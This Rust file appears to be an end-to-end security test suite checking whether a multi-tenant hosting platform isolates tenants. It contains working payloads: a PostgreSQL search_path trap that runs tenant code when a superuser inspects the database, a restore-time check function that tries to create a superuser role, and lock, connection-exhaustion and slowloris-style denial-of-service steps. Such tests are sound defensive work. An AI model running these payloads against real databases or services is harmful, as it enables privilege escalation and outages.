//! What a tenant leaves standing for the platform to come by: marks, locks, functions in the way of names, work that doesn't end.

use std::io::Write as _;
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use freehold_end_to_end::Run;

use crate::attack::{
    Attack,
    Boundary::{File, Lock, Mark, Process, Resource, Sql},
    got_through, inside, steps,
};
use crate::stage::{MALLORY, Stage, VICTIM, app};

pub(crate) const ATTACKS: &[Attack] = &[
    steps("has its functions run by whoever looks at its database", Sql, trap_by_path, trap_sprung),
    steps("has its functions run by whoever restores its dump", Sql, trap_by_restore, restore_sprung),
    // There is one since the attack before.
    inside("lists the dumps of destroyed databases", File, "os.listdir(P['dumps']) and broken()"),
    steps("marks its database as another stack's", Mark, marks_database, commented),
    steps("marks its process as another stack's", Mark, marks_process, marked_elsewhere),
    steps("reads what others put into /tmp", File, |stage| common(stage, "/tmp"), |stage| common_bare(stage, "/tmp")),
    steps(
        "reads what others put into /var/tmp",
        File,
        |stage| common(stage, "/var/tmp"),
        |stage| common_bare(stage, "/var/tmp"),
    ),
    steps(
        "reads what others put into shared memory",
        File,
        |stage| common(stage, "/dev/shm"),
        |stage| common_bare(stage, "/dev/shm"),
    ),
    steps("leaves a setuid program for the next tenant", Process, next_tenant, next_user),
    steps("blocks plans of others with a lock on its tables", Lock, |stage| blocks(stage, "plan", VICTIM), waits),
    steps("blocks plans of its own with a lock on its tables", Lock, |stage| blocks(stage, "plan", MALLORY), waits),
    steps("blocks the doctor with a lock on its tables", Lock, |stage| blocks(stage, "doctor", ""), waits),
    inside(
        "locks the catalog",
        Lock,
        "sql(MIGRATOR, 'BEGIN; LOCK TABLE pg_catalog.pg_database IN ACCESS EXCLUSIVE MODE; ROLLBACK'); broken()",
    ),
    inside(
        "locks the catalog of roles",
        Lock,
        "sql(MIGRATOR, 'BEGIN; LOCK TABLE pg_catalog.pg_authid IN ACCESS EXCLUSIVE MODE; ROLLBACK'); broken()",
    ),
    steps("takes the platform's advisory locks", Lock, advisory, advisory_bare),
    steps("takes all connections of PostgreSQL", Resource, |stage| connections(stage, "APP"), connections_bare),
    steps(
        "takes all connections of PostgreSQL as the migrator",
        Resource,
        |stage| connections(stage, "MIGRATOR"),
        connections_bare,
    ),
    steps(
        "holds hundreds of connections to the router",
        Resource,
        |stage| idle(stage, stage.freehold.router_port(), b""),
        idle_bare,
    ),
    steps(
        "holds hundreds of connections to the API",
        Resource,
        |stage| idle(stage, u16::try_from(stage.number("api_port"))?, b""),
        idle_bare,
    ),
    steps(
        "sends hundreds of heads that never end",
        Resource,
        |stage| idle(stage, stage.freehold.router_port(), b"GET / HTTP/1.1\r\nHost: victim.localhost\r\nX: "),
        idle_bare,
    ),
];

/// Shadows what the catalogs are called, and says who came by. `{role}` is what the trap makes if it can.
const TRAP: &str = r#"
CREATE SCHEMA evil;
CREATE TABLE evil.came (who name, session name);
GRANT USAGE ON SCHEMA evil TO PUBLIC; GRANT ALL ON evil.came TO PUBLIC;
CREATE FUNCTION evil.trap() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
  INSERT INTO evil.came VALUES (current_user, session_user);
  RETURN true;
EXCEPTION WHEN OTHERS THEN RETURN true;
END $f$;
DO $d$
DECLARE name text;
BEGIN
  FOREACH name IN ARRAY ARRAY['pg_class','pg_namespace','pg_database','pg_roles','pg_extension','pg_proc','pg_auth_members',
    'pg_stat_activity','pg_settings','pg_tables','pg_locks','pg_constraint','pg_index','pg_depend'] LOOP
    EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%I WHERE evil.trap()', name, name);
    EXECUTE format('GRANT SELECT ON evil.%I TO PUBLIC', name);
  END LOOP;
END $d$;
CREATE FUNCTION evil.current_database() RETURNS name LANGUAGE sql AS 'SELECT pg_catalog.current_database() WHERE evil.trap()';
CREATE FUNCTION evil.quote_ident(text) RETURNS text LANGUAGE sql AS 'SELECT pg_catalog.quote_ident($1) WHERE evil.trap()';
CREATE FUNCTION evil.shobj_description(oid, name) RETURNS text LANGUAGE sql AS 'SELECT pg_catalog.shobj_description($1, $2) WHERE evil.trap()';
CREATE FUNCTION evil.pg_get_userbyid(oid) RETURNS name LANGUAGE sql AS 'SELECT pg_catalog.pg_get_userbyid($1) WHERE evil.trap()';
CREATE FUNCTION evil.same(name, text) RETURNS boolean LANGUAGE sql AS 'SELECT $1 OPERATOR(pg_catalog.=) $2 AND evil.trap()';
CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = text, FUNCTION = evil.same);
CREATE FUNCTION evil.same(oid, oid) RETURNS boolean LANGUAGE sql AS 'SELECT $1 OPERATOR(pg_catalog.=) $2 AND evil.trap()';
CREATE OPERATOR evil.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = evil.same);
CREATE FUNCTION evil.same(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT $1 OPERATOR(pg_catalog.=) $2 AND evil.trap()';
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.same);
"#;

/// Runs SQL as the attacker's migrator, whose every statement may fail by itself.
fn as_migrator(stage: &Stage, statements: &str) -> Result<String> {
    stage.inside(&format!("print(sql(MIGRATOR, {statements:?}))"))
}

fn tenant_sql(stage: &Stage, tenant: &str, statements: &str) -> Result<String> {
    stage.within(tenant, &format!("print(sql(MIGRATOR, {statements:?}))"))
}

/// Who has run the trap, but for the roles of the tenant itself.
fn came(stage: &Stage, database: &str) -> Result<String> {
    let own = format!("{}%", database.replace('_', "\\_"));
    stage.freehold.sql(
        database,
        &format!("SET search_path = pg_catalog; SELECT DISTINCT who FROM evil.came WHERE who NOT LIKE '{own}' OR session NOT LIKE '{own}'"),
    )
}

fn trap_by_path(stage: &mut Stage) -> Result<bool> {
    let database = stage.fact("own_database").to_owned();
    let output = as_migrator(stage, TRAP)?;
    anyhow::ensure!(!output.contains("Traceback"), "the trap can't be set: {output}");
    let owner = stage.fact("own_owner").to_owned();
    for path in [
        format!("SET ROLE \"{owner}\"; ALTER DATABASE \"{database}\" SET search_path = evil, pg_catalog, public"),
        "ALTER ROLE CURRENT_USER SET search_path = evil, pg_catalog, public".to_owned(),
    ] {
        let _ = as_migrator(stage, &path)?;
    }
    let app = stage.mallory.argument();
    for arguments in [
        vec!["plan", &app, "--tenant", MALLORY],
        vec!["deploy", &app, "--tenant", MALLORY, "--yes"],
        vec!["status", "--tenant", MALLORY],
        vec!["doctor"],
    ] {
        stage.freehold.run(arguments)?;
    }
    let came = came(stage, &database)?;
    stage.freehold.sql("postgres", &format!("ALTER DATABASE \"{database}\" RESET ALL"))?;
    let _ = as_migrator(
        stage,
        "SET search_path = pg_catalog; ALTER ROLE CURRENT_USER RESET ALL; DROP SCHEMA evil CASCADE",
    )?;
    Ok(!came.is_empty())
}

/// A superuser who enters such a database with its settings runs the trap.
fn trap_sprung(stage: &mut Stage) -> Result<bool> {
    let database = format!("trap_{}", std::process::id());
    stage.freehold.sql("postgres", &format!("CREATE DATABASE {database}"))?;
    let result = (|| {
        stage.freehold.sql(&database, TRAP)?;
        stage.freehold.sql("postgres", &format!("ALTER DATABASE {database} SET search_path = evil, pg_catalog"))?;
        stage.freehold.sql(&database, "SELECT count(*) FROM pg_class")?;
        came(stage, &database)
    })();
    stage.freehold.sql("postgres", &format!("DROP DATABASE {database}"))?;
    Ok(!result?.is_empty())
}

/// A table whose check runs whenever a row is put into it, by whoever does so. `{role}` is the role that it tries to make.
const CHECKED: &str = r#"
CREATE FUNCTION public.checked(text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
  BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN RESET SESSION AUTHORIZATION; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN CREATE ROLE {role} LOGIN SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN CREATE ROLE {role} LOGIN; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $f$;
CREATE TABLE public.checks (note text CHECK (public.checked(note)));
CREATE INDEX ON public.checks ((note || 'x'));
INSERT INTO public.checks VALUES ('x');
"#;

fn trap_by_restore(stage: &mut Stage) -> Result<bool> {
    let role = format!("attack_{}", std::process::id());
    let restored = app("restored", "MAY_RUN = \"1\"")?;
    stage.open(&restored)?;
    stage.freehold.deploy(&restored.argument(), &["--tenant", "restored"])?;
    let output = tenant_sql(stage, "restored", &CHECKED.replace("{role}", &role))?;
    anyhow::ensure!(!output.contains("Traceback"), "{output}");
    let run = stage.freehold.run(["destroy", "--tenant", "restored", "--confirm", "restored"])?;
    let made = !stage.freehold.sql("postgres", &format!("SELECT 1 FROM pg_roles WHERE rolname = '{role}'"))?.is_empty();
    if made {
        stage.freehold.sql("postgres", &format!("DROP ROLE {role}"))?;
    }
    run.succeeded()?;
    Ok(made)
}

fn restore_sprung(stage: &mut Stage) -> Result<bool> {
    let (role, database) = (format!("sprung_{}", std::process::id()), format!("sprung_{}", std::process::id()));
    stage.freehold.sql("postgres", &format!("CREATE DATABASE {database}"))?;
    let sprung = stage.freehold.sql(&database, &CHECKED.replace("{role}", &role));
    stage.freehold.sql("postgres", &format!("DROP DATABASE {database}"))?;
    sprung?;
    stage.freehold.sql("postgres", &format!("DROP ROLE {role}"))?;
    Ok(true)
}

/// Whether another stack's destroy is held up, or takes the attacker's database along.
fn marks_database(stage: &mut Stage) -> Result<bool> {
    let other = app("other", "")?;
    stage.open(&other)?;
    stage.freehold.deploy(&other.argument(), &["--tenant", "other"])?;
    let describe = "SELECT shobj_description(oid, 'pg_database') FROM pg_database WHERE datname = 'other__other'";
    let mark = stage.freehold.sql("postgres", describe)?;
    let (own, owner) = (stage.fact("own_database").to_owned(), stage.fact("own_owner").to_owned());
    for statement in [
        format!("COMMENT ON DATABASE \"{own}\" IS '{mark}'"),
        format!("SET ROLE \"{owner}\"; COMMENT ON DATABASE \"{own}\" IS '{mark}'"),
    ] {
        let _ = as_migrator(stage, &statement)?;
    }
    let run = stage.freehold.run(["destroy", "--tenant", "other", "--confirm", "other"])?;
    let kept =
        !stage.freehold.sql("postgres", &format!("SELECT 1 FROM pg_database WHERE datname = '{own}'"))?.is_empty();
    let doctor = stage.freehold.run(["doctor"])?;
    let app = stage.mallory.argument();
    stage.freehold.deploy(&app, &["--tenant", MALLORY])?;
    if run.code != 0 {
        stage.freehold.run(["destroy", "--tenant", "other", "--confirm", "other", "--no-dump"])?;
    }
    drop(doctor);
    Ok(run.code != 0 || !kept)
}

fn commented(stage: &mut Stage) -> Result<bool> {
    let own = stage.fact("own_database").to_owned();
    let describe = format!("SELECT shobj_description(oid, 'pg_database') FROM pg_database WHERE datname = '{own}'");
    let before = stage.freehold.sql("postgres", &describe)?;
    stage.freehold.sql("postgres", &format!("COMMENT ON DATABASE \"{own}\" IS 'attack'"))?;
    let changed = stage.freehold.sql("postgres", &describe)? == "attack";
    stage.freehold.sql("postgres", &format!("COMMENT ON DATABASE \"{own}\" IS '{before}'"))?;
    Ok(changed)
}

/// A process that bears a mark, in a session of its own.
fn marking(stack: &str, seconds: u32) -> String {
    format!(
        "environment = dict(os.environ, FREEHOLD_STACK={stack:?})\n\
         subprocess.Popen(['sleep', '{seconds}'], env=environment, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )
}

fn marks_process(stage: &mut Stage) -> Result<bool> {
    let other = app("other", "")?;
    stage.open(&other)?;
    stage.freehold.deploy(&other.argument(), &["--tenant", "other"])?;
    stage.inside(&marking(&stage.stack("other")?, 30))?;
    let begin = Instant::now();
    let run = stage.freehold.run(["destroy", "--tenant", "other", "--confirm", "other"])?;
    stage.inside("for pid in processes('sleep 30'): os.kill(pid, signal.SIGKILL)")?;
    if run.code != 0 {
        stage.freehold.run(["destroy", "--tenant", "other", "--confirm", "other", "--no-dump"])?;
    }
    Ok(run.code != 0 || begin.elapsed() > Duration::from_secs(25))
}

/// Whoever believes the variable finds it.
fn marked_elsewhere(stage: &mut Stage) -> Result<bool> {
    let id = stage.fact("victim_id").to_owned();
    let before = bearing(&id);
    stage.outside(&marking(&id, 1))?;
    Ok(bearing(&id) > before)
}

fn bearing(stack: &str) -> usize {
    let entries = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    let mark = format!("FREEHOLD_STACK={stack}");
    entries
        .filter_map(|entry| std::fs::read(entry.path().join("environ")).ok())
        .filter(|text| String::from_utf8_lossy(text).split('\0').any(|one| one == mark))
        .count()
}

/// Whether the attacker reads a file that the victim has put where everybody may.
fn common(stage: &mut Stage, folder: &str) -> Result<bool> {
    let path = format!("{folder}/attack-common-{}", std::process::id());
    stage.within(VICTIM, &format!("open({path:?}, 'w').write('dear')"))?;
    let read = stage.inside(&format!("open({path:?}).read() == 'dear' and broken()"))?;
    stage.within(VICTIM, &format!("os.remove({path:?})"))?;
    Ok(got_through(&read))
}

fn common_bare(stage: &mut Stage, folder: &str) -> Result<bool> {
    let path = format!("{folder}/attack-bare-{}", std::process::id());
    let output = stage.outside(&format!(
        "open({path:?}, 'w').write('dear')\nread = subprocess.run(['cat', {path:?}], capture_output=True).stdout\nos.remove({path:?})\nread == b'dear' and broken()"
    ))?;
    Ok(got_through(&output))
}

/// Whether a tenant who comes after another's end has their user: then what that one left acts as them.
fn next_tenant(stage: &mut Stage) -> Result<bool> {
    let user = |stage: &Stage, name: &str| -> Result<String> {
        let next = app(name, "MAY_RUN = \"1\"")?;
        stage.open(&next)?;
        stage.freehold.deploy(&next.argument(), &["--tenant", name])?;
        let user = stage.within(name, "print(os.getuid())")?;
        stage.freehold.run(["destroy", "--tenant", name, "--confirm", name, "--no-dump"])?.succeeded()?;
        Ok(user)
    };
    Ok(user(stage, "first")? == user(stage, "second")?)
}

/// A setuid program acts as its owner for whoever comes later.
fn next_user(stage: &mut Stage) -> Result<bool> {
    let output = stage.outside("drop = {'user': 65534, 'group': 65534, 'extra_groups': []} if os.getuid() == 0 else {}\nsubprocess.run([P['setuid'], '-u'], capture_output=True, text=True, **drop).stdout.strip() == P['setuid_owner'] and broken()")?;
    Ok(got_through(&output))
}

/// From when on somebody waited for the attacker, who holds what he has for a minute.
const LATE: Duration = Duration::from_secs(45);
/// Waits until the table is locked.
const LOCKED: &str = "until(lambda: int(sql(MIGRATOR, \"SELECT count(*) FROM pg_locks WHERE relation = 'public.notes'::regclass AND mode = 'AccessExclusiveLock' AND granted\")))";

/// Whether a command doesn't come to its end while the attacker holds a table.
fn blocks(stage: &mut Stage, command: &str, tenant: &str) -> Result<bool> {
    let script = "subprocess.Popen(['psql', '-Xqw', MIGRATOR, '-c', 'BEGIN; LOCK TABLE public.notes IN ACCESS EXCLUSIVE MODE; SELECT pg_sleep(60)'], \
                  start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";
    stage.inside(&format!("{script}{LOCKED}"))?;
    let app = if tenant == VICTIM { stage.victim.argument() } else { stage.mallory.argument() };
    let arguments = if tenant.is_empty() { vec![command] } else { vec![command, &app, "--tenant", tenant] };
    let begin = Instant::now();
    let run: Run = stage.freehold.run(arguments)?;
    let late = begin.elapsed() > LATE;
    stage.inside("for pid in processes('LOCK TABLE'): os.kill(pid, signal.SIGKILL)\nsql(MIGRATOR, \"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE query LIKE '%LOCK TABLE public.notes%' AND pid <> pg_backend_pid()\")")?;
    drop(run);
    Ok(late)
}

/// Whoever reads the table waits.
fn waits(stage: &mut Stage) -> Result<bool> {
    let output = stage.outside(&format!(
        "hold = subprocess.Popen(['psql', '-Xqw', MIGRATOR, '-c', 'BEGIN; LOCK TABLE public.notes IN ACCESS EXCLUSIVE MODE; SELECT pg_sleep(5)'], \
         stdout=subprocess.DEVNULL)\n{LOCKED}\nbegin = time.monotonic()\nsql(MIGRATOR, 'SELECT count(*) FROM public.notes')\n\
         time.monotonic() - begin > 1 and broken()",
    ))?;
    Ok(got_through(&output))
}

/// Takes the keys that it sees others hold, and as many others, in every database that it may enter.
fn advisory(stage: &mut Stage) -> Result<bool> {
    let keys = stage.freehold.sql(
        "postgres",
        "SELECT string_agg(DISTINCT format('pg_advisory_lock(%s)', (classid::bigint << 32) | objid::bigint), ', ') FROM pg_locks \
         WHERE locktype = 'advisory' AND objsubid = 1",
    )?;
    let held = if keys.is_empty() { "1" } else { &keys };
    stage.inside(&format!(
        "hold = subprocess.Popen(['psql', '-Xqw', MIGRATOR, '-c', \"SET lock_timeout = '1s'; SELECT {held}; SELECT pg_advisory_lock(n) FROM generate_series(1, 500) n; SELECT pg_sleep(60)\"], \
         start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n\
         until(lambda: hold.poll() is not None or int(sql(MIGRATOR, \"SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND granted\")) >= 500)"
    ))?;
    stage.victim.version("2")?;
    let begin = Instant::now();
    let victim = stage.victim.argument();
    let run = stage.freehold.run(["plan", &victim, "--tenant", VICTIM])?;
    let doctor = stage.freehold.run(["doctor"])?;
    let late = begin.elapsed() > LATE;
    stage.inside("for pid in processes('pg_advisory_lock'): os.kill(pid, signal.SIGKILL)")?;
    drop(doctor);
    Ok(late || run.code != 0)
}

fn advisory_bare(stage: &mut Stage) -> Result<bool> {
    let output = stage.outside(
        "hold = subprocess.Popen(['psql', '-Xqw', MIGRATOR, '-c', 'SELECT pg_advisory_lock(77); SELECT pg_sleep(5)'], stdout=subprocess.DEVNULL)\n\
         until(lambda: int(sql(MIGRATOR, \"SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND objid = 77 AND granted\")))\nbegin = time.monotonic()\nsql(MIGRATOR, 'SELECT pg_advisory_lock(77)')\ntime.monotonic() - begin > 1 and broken()",
    )?;
    Ok(got_through(&output))
}

/// Whether others get no connection any more while the attacker opens as many as it gets.
fn connections(stage: &mut Stage, role: &str) -> Result<bool> {
    stage.inside(&format!(
        "for _ in range(60): subprocess.Popen(['psql', '-Xqw', {role}, '-c', 'SELECT pg_sleep(6)'], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n\
         time.sleep(2)"
    ))?;
    let victim = stage.within(VICTIM, "sql(APP, 'SELECT 1'); print('served')")?;
    stage.inside("for pid in processes('pg_sleep(6)'): os.kill(pid, signal.SIGKILL)")?;
    Ok(!victim.contains("served"))
}

/// A role without a limit takes more than a tenant gets.
fn connections_bare(stage: &mut Stage) -> Result<bool> {
    let mut held: Vec<Child> = Vec::new();
    let url = stage.freehold.superuser_url("postgres")?;
    for _ in 0..16 {
        let mut command = Command::new("psql");
        command.args(["-Xqw", &url, "-c", "SELECT pg_sleep(5)"]).stdout(Stdio::null()).stderr(Stdio::null());
        held.push(command.spawn()?);
    }
    let count = "SELECT count(*) FROM pg_stat_activity WHERE query LIKE 'SELECT pg_sleep(5)%'";
    let end = Instant::now() + Duration::from_secs(5);
    let mut most = 0;
    while most < 16 && Instant::now() < end {
        most = most.max(stage.freehold.sql("postgres", count)?.parse().context("a number")?);
    }
    for child in &mut held {
        child.kill()?;
        child.wait()?;
    }
    // The limit of the tenants' app.
    Ok(most > 8)
}

/// Opens many connections on which nothing more comes, and looks whether the victim is served meanwhile.
fn idle(stage: &mut Stage, port: u16, words: &[u8]) -> Result<bool> {
    let held = open_many(port, words);
    let begin = Instant::now();
    let served = stage.victim_answers().is_ok_and(|name| name == VICTIM);
    let listed = stage.freehold.run(["list"])?;
    drop(held);
    Ok(!served || listed.code != 0 || begin.elapsed() > LATE)
}

fn open_many(port: u16, words: &[u8]) -> Vec<TcpStream> {
    let mut held = Vec::new();
    for _ in 0..1100 {
        let address = ([127, 0, 0, 1], port).into();
        let Ok(mut connection) = TcpStream::connect_timeout(&address, Duration::from_millis(500)) else { break };
        let _ = connection.write_all(words);
        held.push(connection);
    }
    held
}

/// A server that gives each connection a descriptor of its own and has few.
fn idle_bare(_: &mut Stage) -> Result<bool> {
    let script = "import socket, resource, sys\nresource.setrlimit(resource.RLIMIT_NOFILE, (256, 256))\none = socket.socket()\none.bind(('127.0.0.1', 0))\n\
                  one.listen(2048)\nprint(one.getsockname()[1], flush=True)\nheld = []\nwhile True: held.append(one.accept()[0])";
    let mut child =
        Command::new("python3").args(["-c", script]).stdout(Stdio::piped()).stderr(Stdio::null()).spawn()?;
    let mut line = String::new();
    let output = child.stdout.take().context("no output")?;
    std::io::BufRead::read_line(&mut std::io::BufReader::new(output), &mut line)?;
    let held = open_many(line.trim().parse()?, b"");
    let end = Instant::now() + Duration::from_secs(30);
    let mut ended = false;
    while !ended && Instant::now() < end {
        ended = child.try_wait()?.is_some();
        std::thread::sleep(Duration::from_millis(20));
    }
    drop(held);
    let _ = child.kill();
    let _ = child.wait();
    Ok(ended)
}
